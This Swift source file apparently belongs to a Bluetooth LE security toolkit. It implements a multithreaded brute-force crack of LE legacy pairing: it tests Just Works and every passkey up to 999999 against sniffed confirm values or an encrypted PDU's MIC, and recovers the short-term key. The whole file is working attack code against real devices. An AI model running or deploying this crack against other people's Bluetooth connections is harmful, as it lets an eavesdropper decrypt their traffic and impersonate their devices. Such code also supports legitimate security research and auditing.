public import BLECrypto
import Dispatch
import Foundation
import Synchronization

/// What a sniffed LE legacy pairing exposes: both pairing commands, both addresses, both confirm
/// values and both randoms (Vol 3 Part H 2.3.5.5). Without the confirm values, the slow search
/// (`crack(mrand:srand:verifies:)`) tests TKs on an encrypted PDU instead.
public struct LegacyPairing: Sendable, Hashable {
    public var inputs: C1Inputs
    public var mconfirm: Value128
    public var sconfirm: Value128
    public var mrand: Value128
    public var srand: Value128

    public init(inputs: C1Inputs, mconfirm: Value128, sconfirm: Value128, mrand: Value128, srand: Value128) {
        self.inputs = inputs
        self.mconfirm = mconfirm
        self.sconfirm = sconfirm
        self.mrand = mrand
        self.srand = srand
    }
}

/// A TK that produces both confirm values, and the STK it gives.
public struct CrackedPairing: Sendable, Hashable {
    /// The passkey (0 to 999999; 0 is also Just Works's TK).
    public var passkey: UInt32
    public var tk: Value128 { Value128(UInt64(passkey)) }
    /// STK = s1(TK, Srand, Mrand).
    public var stk: Value128
}

/// The TK search of legacy pairing: Just Works (TK 0) first, then every passkey 0 to 999999,
/// split over the processor's cores. Each thread has its own AES context; nothing is shared but
/// the found passkey. A passkey is tested by the confirm values when they were captured, else
/// (the slow search) by whether its STK verifies the MIC of an encrypted PDU.
public enum LegacyPairingCrack {
    public static let passkeyCount: UInt32 = 1_000_000

    /// Whether a passkey fits: the STK it gives when it does, nil when not. Called on the search's
    /// threads, each with its own AES context.
    public typealias Test = @Sendable (_ passkey: UInt32, _ aes: AES128) throws(CryptoError) -> Value128?

    /// The TK (as a passkey) and STK of `pairing`, or nil when no passkey matches (an OOB TK).
    /// `progress`, when given, hears of every 1,024 passkeys a thread tries and is cleared at
    /// the end.
    public static func crack(
        _ pairing: LegacyPairing,
        threads: Int = ProcessInfo.processInfo.activeProcessorCount,
        progress: CrackProgress? = nil
    ) throws(CryptoError) -> CrackedPairing? {
        try search(threads: threads, progress: progress) { passkey, aes throws(CryptoError) in
            try fits(passkey, pairing, aes)
        }
    }

    /// The slow search, for a pairing whose confirm values were not captured: the passkey whose
    /// STK = s1(TK, Srand, Mrand) makes `verifies` true (it decrypts an encrypted PDU of the
    /// session the pairing starts, and checks its MIC), or nil.
    public static func crack(
        mrand: Value128,
        srand: Value128,
        threads: Int = ProcessInfo.processInfo.activeProcessorCount,
        progress: CrackProgress? = nil,
        verifies: @escaping @Sendable (_ stk: Value128, _ aes: AES128) throws(CryptoError) -> Bool
    ) throws(CryptoError) -> CrackedPairing? {
        try search(threads: threads, progress: progress) { passkey, aes throws(CryptoError) in
            let stk = try aes.s1(k: Value128(UInt64(passkey)), r1: srand, r2: mrand)
            return try verifies(stk, aes) ? stk : nil
        }
    }

    /// The STK of passkey `passkey` when it gives both confirm values: c1(TK, Mrand, ...) =
    /// Mconfirm and c1(TK, Srand, ...) = Sconfirm.
    static func fits(_ passkey: UInt32, _ pairing: LegacyPairing, _ aes: AES128) throws(CryptoError) -> Value128? {
        let tk = Value128(UInt64(passkey))
        guard try aes.c1(k: tk, r: pairing.mrand, pairing.inputs) == pairing.mconfirm,
            try aes.c1(k: tk, r: pairing.srand, pairing.inputs) == pairing.sconfirm
        else { return nil }
        return try aes.s1(k: tk, r1: pairing.srand, r2: pairing.mrand)
    }

    /// Passkey 0 (Just Works) on this thread, then 1 to 999999 over `threads` threads.
    static func search(threads: Int, progress: CrackProgress?, _ test: @escaping Test) throws(CryptoError)
        -> CrackedPairing?
    {
        if let stk = try test(0, AES128()) { return CrackedPairing(passkey: 0, stk: stk) }
        let workers = max(1, min(threads, 64))
        let found = Found()
        DispatchQueue.concurrentPerform(iterations: workers) { worker in
            found.record(share(test, worker: worker, of: workers, stop: found, progress: progress))
        }
        progress?.clear()
        if let failure = found.failure { throw failure }
        return found.result
    }

    /// One thread's share: passkeys from 1 whose index modulo `workers` is `worker`, stopping when
    /// another thread has found one.
    static func share(
        _ test: Test,
        worker: Int,
        of workers: Int,
        stop: Found,
        progress: CrackProgress? = nil
    ) -> Result<CrackedPairing?, CryptoError> {
        do throws(CryptoError) {
            let aes = try AES128()
            var passkey = UInt32(1 + worker)
            var tried = 0
            while passkey < passkeyCount {
                tried += 1
                if tried % 1024 == 0 {
                    if stop.isDone { return .success(nil) }
                    progress?.add(1024)
                }
                if let stk = try test(passkey, aes) { return .success(CrackedPairing(passkey: passkey, stk: stk)) }
                passkey += UInt32(workers)
            }
            return .success(nil)
        } catch {
            return .failure(error)
        }
    }
}

/// The search's shared outcome: the passkey found first, or the first failure.
final class Found: Sendable {
    private let state = Mutex<(result: CrackedPairing?, failure: CryptoError?)>((nil, nil))
    private let done = Atomic<Bool>(false)

    var isDone: Bool { done.load(ordering: .relaxed) }
    var result: CrackedPairing? { state.withLock { $0.result } }
    var failure: CryptoError? { state.withLock { $0.failure } }

    func record(_ result: Result<CrackedPairing?, CryptoError>) {
        switch result {
        case .success(nil): return
        case .success(let found?): state.withLock { if $0.result == nil { $0.result = found } }
        case .failure(let error): state.withLock { if $0.failure == nil { $0.failure = error } }
        }
        done.store(true, ordering: .relaxed)
    }
}
